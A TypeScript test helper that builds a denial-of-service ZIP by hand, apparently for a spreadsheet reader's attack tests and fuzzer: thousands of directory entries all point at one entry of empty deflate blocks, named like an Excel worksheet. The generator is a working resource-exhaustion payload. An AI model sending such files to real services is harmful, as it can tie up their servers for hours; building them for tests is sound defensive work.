/**
 * Zips that make a reader do unbounded work without being large (issue 9, point 5): many directory entries
 * that all point at one part, the part made of empty deflate blocks that inflate to nothing. A reader that
 * inflates every entry it is told about inflates the same megabytes once per entry: 65,535 times a few
 * milliseconds, hours. Built by hand, in milliseconds, for the attack tests and the fuzzer.
 */

/** `bytes` bytes of empty, non-final stored deflate blocks (00 00 00 FF FF each): valid deflate that inflates to nothing. */
export function emptyBlocks(bytes: number): Buffer {
  const block = Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff]);
  const out = Buffer.alloc(Math.floor(bytes / 5) * 5);
  for (let i = 0; i < out.length; i += 5) block.copy(out, i);
  return out;
}

export interface OverlapBombOptions {
  /** Central directory entries, all pointing at the one local entry (at most 65,535: no ZIP64). */
  entries: number;
  /** Bytes of empty blocks the one entry holds (before its final empty block). */
  emptyBlockBytes: number;
  /** The part's name (the same in every directory entry). */
  name?: string;
}

export function overlappingEntriesBomb(options: OverlapBombOptions): Buffer {
  const name = Buffer.from(options.name ?? 'xl/worksheets/sheet1.xml', 'utf8');
  const data = Buffer.concat([emptyBlocks(options.emptyBlockBytes), Buffer.from([0x03, 0x00])]); // then an empty final fixed block
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(0x0800, 6);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(0, 14); // CRC-32 of nothing
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(0, 22);
  local.writeUInt16LE(name.length, 26);
  const record = Buffer.alloc(46 + name.length);
  record.writeUInt32LE(0x02014b50, 0);
  record.writeUInt16LE(20, 4);
  record.writeUInt16LE(20, 6);
  record.writeUInt16LE(0x0800, 8);
  record.writeUInt16LE(8, 10);
  record.writeUInt32LE(0, 16);
  record.writeUInt32LE(data.length, 20);
  record.writeUInt32LE(0, 24);
  record.writeUInt16LE(name.length, 28);
  record.writeUInt32LE(0, 42); // every entry: the part at offset 0
  name.copy(record, 46);
  const directory = Buffer.alloc(record.length * options.entries);
  for (let i = 0; i < options.entries; i++) record.copy(directory, i * record.length);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(options.entries & 0xffff, 8);
  end.writeUInt16LE(options.entries & 0xffff, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length + name.length + data.length, 16);
  return Buffer.concat([local, name, data, directory, end]);
}
